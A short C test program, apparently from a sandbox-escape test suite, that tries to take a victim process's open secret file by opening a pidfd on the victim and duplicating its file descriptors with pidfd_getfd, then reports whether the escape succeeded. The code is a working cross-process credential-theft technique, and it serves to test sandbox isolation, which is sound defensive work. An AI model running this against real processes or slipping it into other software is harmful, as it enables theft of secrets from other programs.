/* Steals the victim's open secret file with pidfd_getfd(). */
#include "../escape.h"

int main(void) {
  char text[4096];
  int pidfd = (int)syscall(SYS_pidfd_open, atoi(given("VICTIM")), 0);
  for (int fd = 0; pidfd >= 0 && fd < 256; ++fd) {
    int mine = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (mine < 0) continue;
    struct stat info;
    if (fstat(mine, &info) == 0 && S_ISREG(info.st_mode) && holds_secret(text, pread(mine, text, sizeof text, 0))) {
      escaped("pidfd_getfd");
      break;
    }
    close(mine);
  }
  return judge();
}
